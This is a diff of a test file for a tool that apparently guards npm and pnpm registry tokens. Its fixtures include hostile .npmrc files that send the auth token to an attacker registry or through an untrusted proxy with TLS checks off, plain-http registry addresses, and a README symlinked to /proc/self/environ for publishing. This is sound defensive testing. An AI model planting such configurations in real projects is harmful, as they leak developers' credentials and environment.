@@ -9,13 +9,12 @@ import { ended, type Finished, type Laptop, registryName, startLaptop } from "..
 import { requires } from "../requires.ts";
 import { names } from "../sandbox/main.ts";
 import { seedPackage } from "../sandbox/packages.ts";
+import { bare, endpoint, host, hostileFiles, lock, manifest, otherFiles, variable } from "./hostile-files.ts";
 import { type HostileListener, holdsToken, startHostileListener } from "./hostile-listener.ts";
+import { npmrcSpellings } from "./npmrc-spellings.ts";
 import { npmUserProject } from "./projects.ts";
 
 const tools = join(import.meta.dir, "../../.tools");
-const host = names.packageHost;
-const endpoint = `${host}/npm/${names.repository}/`;
-const variable = `npm_config_//${endpoint}:_authToken`;
 
 let laptop: Laptop;
 /** Ends TLS with its own authority. */
@@ -49,13 +48,15 @@ afterEach(() => {
   expect(taken).toEqual([]);
 });
 
+type Files = Record<string, string | Uint8Array>;
+
 /** A project with these files, and a command in it by the npm (or pnpm) of a folder in .tools. */
-function run(tool: string, command: string[], files: Record<string, string>, env: Record<string, string> = {}) {
+function run(tool: string, command: string[], files: Files, env: Record<string, string> = {}) {
   const folder = join(laptop.home, `${tool}-${count++}`);
   npmUserProject(folder, "my-lib");
   for (const [name, text] of Object.entries(files)) {
     mkdirSync(dirname(join(folder, name)), { recursive: true });
-    if (name === "link") symlinkSync(text, join(folder, "README.md"));
+    if (name === "link") symlinkSync(String(text), join(folder, "README.md"));
     else writeFileSync(join(folder, name), text);
   }
   return laptop.run(command, {
@@ -83,121 +84,7 @@ function withTool(tool: string): Record<string, string> {
 
 const newNode = join(tools, `npm-12/node_modules/node-linux-${process.arch}/bin`);
 
-/** Files of a project that want the token, with what the person must be told; none where npm goes on by itself. */
-const hostile: [what: string, files: () => Record<string, string>, words: RegExp | null][] = [
-  [
-    "another registry with our variable",
-    () => ({ ".npmrc": `registry=${evil.url}/npm/\n//${bare(evil.url)}/npm/:_authToken=\${${variable}}\n` }),
-    null,
-  ],
-  [
-    "another registry with the variable of vouch exec",
-    () => ({ ".npmrc": `registry=${evil.url}/\n//${bare(evil.url)}/:_authToken=\${CODEARTIFACT_AUTH_TOKEN}\n` }),
-    null,
-  ],
-  [
-    "a proxy and strict-ssl=false",
-    () => ({ ".npmrc": `https-proxy=${evil.url}/\nstrict-ssl=false\n` }),
-    /\.npmrc: strict-ssl/,
-  ],
-  [
-    "a proxy and a cafile",
-    () => ({ ".npmrc": `https-proxy=${evil.url}/\ncafile=./ca.pem\n`, "ca.pem": evil.ca }),
-    /\.npmrc: cafile/,
-  ],
-  [
-    "a proxy and a ca",
-    () => ({ ".npmrc": `https-proxy=${evil.url}/\nca="${evil.ca.trim().replaceAll("\n", "\\n")}"\n` }),
-    /gets no token here: .*\.npmrc: ca /,
-  ],
-  ["plain http", () => ({ ".npmrc": `registry=http://${endpoint}\n` }), /\.npmrc: registry .*plain http/],
-  [
-    "plain http in a dependency",
-    () => ({
-      "package.json": JSON.stringify({
-        name: "app",
-        version: "1.0.0",
-        dependencies: { "my-lib": `HTTP://${host.toUpperCase()}/npm/${names.repository}/my-lib/-/my-lib-1.0.0.tgz` },
-      }),
-    }),
-    /package\.json: dependencies\.my-lib .*plain http/,
-  ],
-];
-
-/** Other files and places of the same kind, each with what is named. */
-const others: [what: string, files: () => Record<string, string>, command: string[], words: RegExp][] = [
-  [
-    "npm publish with trust in publishConfig",
-    () => ({ "package.json": manifest({ publishConfig: { "https-proxy": evil.url, "strict-ssl": false } }) }),
-    ["publish"],
-    /package\.json: publishConfig\.https-proxy/,
-  ],
-  [
-    "npm publish with plain http in publishConfig",
-    () => ({ "package.json": manifest({ publishConfig: { registry: `http://${endpoint}` } }) }),
-    ["publish"],
-    /package\.json: publishConfig\.registry .*plain http/,
-  ],
-  [
-    "npm publish of this process's environment",
-    () => ({ "package.json": manifest({}), link: "/proc/self/environ" }),
-    ["publish"],
-    /README\.md: \/proc\/.*no file of the package/,
-  ],
-  [
-    "a workspace's member",
-    () => ({
-      "package.json": manifest({ workspaces: ["packages/*"] }),
-      "packages/a/package.json": JSON.stringify({ name: "a", dependencies: { x: `http://${endpoint}x.tgz` } }),
-    }),
-    ["install"],
-    /packages\/a\/package\.json: dependencies\.x /,
-  ],
-  [
-    "a dependency in a folder",
-    () => ({
-      "package.json": manifest({ dependencies: { a: "file:./a" } }),
-      "a/package.json": JSON.stringify({ name: "a", dependencies: { x: `http://${endpoint}x.tgz` } }),
-    }),
-    ["install"],
-    /\/a\/package\.json: dependencies\.x /,
-  ],
-  [
-    "another folder by --prefix",
-    () => ({ "b/package.json": manifest({}), "b/.npmrc": `https-proxy=${evil.url}\nca=x\n` }),
-    ["--prefix", "b", "install", "my-lib"],
-    /b\/\.npmrc: ca /,
-  ],
-  [
-    "a client certificate for the registry",
-    () => ({ ".npmrc": `//${endpoint}:certfile=./c.pem\n//${endpoint}:keyfile=./k.pem\n` }),
-    ["install"],
-    /\.npmrc: \/\/.*:certfile/,
-  ],
-  ["other user settings", () => ({ ".npmrc": "userconfig=./other\n", other: "ca=x\n" }), ["install"], /userconfig/],
-  [
-    "a lock file whose host npm replaces",
-    () => ({ "npm-shrinkwrap.json": lock("http://registry.npmjs.org/my-lib/-/my-lib-1.0.0.tgz") }),
-    ["ci"],
-    /npm-shrinkwrap\.json: .*resolved/,
-  ],
-  ["the command line", () => ({}), ["install", `http://${endpoint}my-lib`], /The command line: http/],
-];
-
-const manifest = (more: object) => JSON.stringify({ name: "app", version: "1.0.0", ...more });
-
-const lock = (resolved: string) =>
-  JSON.stringify({
-    name: "app",
-    version: "1.0.0",
-    lockfileVersion: 3,
-    packages: {
-      "": { name: "app", version: "1.0.0", dependencies: { "my-lib": "^1.0.0" } },
-      "node_modules/my-lib": { version: "1.0.0", resolved },
-    },
-  });
-
-const bare = (url: string) => url.slice("http://".length);
+const spelling = () => ({ ca: evil.ca, proxy: evil.url, endpoint });
 
 async function installs(tool: string, command: string[]): Promise<void> {
   const finished = await run(tool, command, {});
@@ -214,10 +101,10 @@ describe.each(["npm-9", "npm-10", "npm-11", "npm-12"])("%s", (tool) => {
   describe.skipIf(!requires(join(tools, tool, "node_modules/.bin/npm")))("is installed", () => {
     test("installs from the registry in an honest project", () => installs(tool, ["npm", "install"]), 120_000);
 
-    test.each(hostile)(
+    test.each(hostileFiles)(
       "gives nobody the token: %s",
       async (_, files, words) => {
-        expectWords(await run(tool, ["npm", "install", "--ignore-scripts"], files()), words);
+        expectWords(await run(tool, ["npm", "install", "--ignore-scripts"], files(evil)), words);
       },
       120_000,
     );
@@ -256,12 +143,59 @@ describe.skipIf(!requires(join(tools, "npm-11/node_modules/.bin/npm")))("other w
     120_000,
   );
 
-  test.each(others)(
+  test.each(otherFiles)(
     "%s",
     async (_, files, command, words) => {
-      const finished = await run("npm-11", ["npm", ...command, "--ignore-scripts"], files());
+      // What an earlier test has fetched would do without a token.
+      const env = { npm_config_cache: join(laptop.home, `cache-${count}`) };
+      const finished = await run("npm-11", ["npm", ...command, "--ignore-scripts"], files(evil), env);
       expectWords(finished, words);
       expect(finished.exitCode).not.toBe(0);
+    },
+    120_000,
+  );
+
+  test("an honest archive on the command line is installed", async () => {
+    const files = { "package/package.json": JSON.stringify({ name: "b", version: "1.0.0" }) };
+    const archive = await new Bun.Archive(files, { compress: "gzip" }).bytes();
+    for (const words of [["./b.tgz"], ["--prefix", "not-there-yet", "./b.tgz"]]) {
+      const finished = await run("npm-11", ["npm", "install", ...words], { "b.tgz": archive });
+      expect(finished.stderr).not.toContain("vouch:");
+      expect(finished.exitCode).toBe(0);
+    }
+  }, 120_000);
+
+  test.each([
+    ["a package that it brings along", "package/node_modules/a/package.json"],
+    ["its lock file", "package/npm-shrinkwrap.json"],
+    ["another first folder", "./x/package.json"],
+  ])(
+    "an archive's address is seen: %s",
+    async (_, file) => {
+      const x = `http://${endpoint}x.tgz`;
+      const inner = file.endsWith("shrinkwrap.json") ? lock(x) : manifest({ dependencies: { x } });
+      const bundled = manifest({
+        name: "b",
+        bundleDependencies: ["a"],
+        dependencies: { a: "1.0.0", "my-lib": "1.0.0" },
+      });
+      const archive = await new Bun.Archive(
+        { "package/package.json": bundled, [file]: inner },
+        { compress: "gzip" },
+      ).bytes();
+      const finished = await run("npm-11", ["npm", "install", "--ignore-scripts", "./b.tgz"], { "b.tgz": archive });
+      expectWords(finished, /b\.tgz: .*\.json: .*plain http/);
+    },
+    120_000,
+  );
+
+  test.each(npmrcSpellings)(
+    "an .npmrc with %s gives nobody the token",
+    async (_, npmrc) => {
+      const { stdout, stderr } = await run("npm-11", ["npm", "install", "--ignore-scripts"], {
+        ".npmrc": npmrc(spelling()),
+      });
+      expect(stdout + stderr).not.toBe("");
     },
     120_000,
   );
@@ -287,11 +221,41 @@ describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("%s", (tool) => {
 
     test("installs from the registry in an honest project", () => installs(tool, ["pnpm", "install"]), 120_000);
 
-    test.each(hostile)(
+    test.each(hostileFiles)(
       "gives nobody the token: %s",
       async (_, files, words) => {
-        const finished = await run(tool, ["pnpm", "install", "--ignore-scripts"], files());
+        const finished = await run(tool, ["pnpm", "install", "--ignore-scripts"], files(evil));
         if (words !== null) expect(finished.stderr).toMatch(/pnpm gets no token here: .*(npmrc|package\.json): /);
+      },
+      120_000,
+    );
+
+    if (tool === "pnpm-9" || tool === "pnpm-12") {
+      test.each(npmrcSpellings)(
+        "an .npmrc with %s gives nobody the token",
+        async (_, npmrc) => {
+          const { stdout, stderr } = await run(tool, ["pnpm", "install", "--ignore-scripts"], {
+            ".npmrc": npmrc(spelling()),
+          });
+          expect(stdout + stderr).not.toBe("");
+        },
+        120_000,
+      );
+    }
+
+    test.each([
+      ["pnpm dlx", ["pnpm", "dlx", "@x/nothing"]],
+      ["pnpm view", ["pnpm", "view", "@x/nothing"]],
+    ])(
+      "%s in a hostile project gives nobody the token",
+      async (_, command) => {
+        const own = `@x:registry=${evil.url}/npm/\n`;
+        const known = [variable, `p${variable}`, "CODEARTIFACT_AUTH_TOKEN"];
+        const texts = known.map((name) => `${own}//${bare(evil.url)}/npm/:_authToken=\${${name}}\n`);
+        for (const text of [...texts, `${own}https-proxy=${evil.url}\nstrict-ssl=false\n`]) {
+          const { exitCode } = await run(tool, command, { ".npmrc": text });
+          expect(exitCode).not.toBe(0);
+        }
       },
       120_000,
     );
